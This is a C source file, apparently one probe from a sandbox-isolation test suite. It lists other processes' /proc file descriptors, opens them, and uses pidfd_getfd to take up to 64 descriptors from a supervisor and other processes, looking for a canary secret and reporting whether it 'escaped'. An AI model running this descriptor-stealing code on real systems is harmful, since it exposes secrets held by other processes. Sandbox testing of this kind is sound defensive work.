/* proc_other_fds: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F09: other processes' descriptors. For every visible pid (and the supervisor and runner pids passed
 * in), readlink and open every /proc/<pid>/fd/N and /proc/<pid>/task/<tid>/fd/N, print fdinfo, and try
 * pidfd_getfd on fds 0..63. The supervisor holds the secret on {canary_fd}. */
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
static int hits;
static void fds_of(const char *pid, int canary_fd)
{
    char dir[300]; snprintf(dir, sizeof dir, "/proc/%s/fd", pid);
    DIR *d = opendir(dir);
    if (!d) { printf("opendir %s: %s\n", dir, strerror(errno)); }
    else {
        struct dirent *e; int n = 0;
        while ((e = readdir(d)) && n++ < 300) {
            if (e->d_name[0] == '.') continue;
            char p[600], t[512]; snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
            long k = readlink(p, t, sizeof t - 1); if (k >= 0) t[k] = 0; else strcpy(t, strerror(errno));
            printf("%s -> %s\n", p, t);
            if (dump_path(p, 300) > 0) hits++;
            snprintf(p, sizeof p, "/proc/%s/fdinfo/%s", pid, e->d_name); dump_path(p, 120);
        }
        closedir(d);
    }
    /* the canary descriptor by number, even when the directory cannot be listed */
    char p[300]; snprintf(p, sizeof p, "/proc/%s/fd/%d", pid, canary_fd);
    if (dump_path(p, 300) > 0) hits++;
    int pfd = syscall(SYS_pidfd_open, atoi(pid), 0);
    if (pfd < 0) { printf("pidfd_open(%s): %s\n", pid, strerror(errno)); return; }
    for (int fd = 0; fd < 64; fd++) {
        int got = syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (got < 0) { if (fd < 4) printf("pidfd_getfd(%s,%d): %s\n", pid, fd, strerror(errno)); continue; }
        printf("GOT fd %d of pid %s as %d\n", fd, pid, got);
        char b[512]; long r = pread(got, b, sizeof b, 0); if (r < 0) r = read(got, b, sizeof b);
        if (r > 0) { printf("READ stolen fd: "); show(b, r, 300); hits++; }
        close(got);
    }
    close(pfd);
}
int main(int argc, char **argv)
{
    const char *sup = argc > 1 ? argv[1] : "0";
    const char *runner = argc > 2 ? argv[2] : "0";
    int canary_fd = argc > 3 ? atoi(argv[3]) : 3;
    if (argc > 4) NONCE = argv[4];
    char me[32]; snprintf(me, sizeof me, "%d", getpid());
    fds_of(sup, canary_fd);
    fds_of(runner, canary_fd);
    char pp[32]; snprintf(pp, sizeof pp, "%d", getppid()); fds_of(pp, canary_fd);
    DIR *d = opendir("/proc");
    if (d) {
        struct dirent *e; int n = 0;
        while ((e = readdir(d)) && n < 100) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, me)) continue;
            n++;
            fds_of(e->d_name, canary_fd);
            char td[300]; snprintf(td, sizeof td, "/proc/%s/task", e->d_name);
            DIR *t = opendir(td);
            if (t) { struct dirent *te; int k = 0; while ((te = readdir(t)) && k++ < 10) { if (te->d_name[0] < '1' || te->d_name[0] > '9' || !strcmp(te->d_name, e->d_name)) continue; char tp[64]; snprintf(tp, sizeof tp, "%s/task/%s", e->d_name, te->d_name); fds_of(tp, canary_fd); } closedir(t); }
        }
        closedir(d);
    }
    report(hits > 0, "other-process-fd-read(%d)", hits);
    usleep(400000);
    return 0;
}
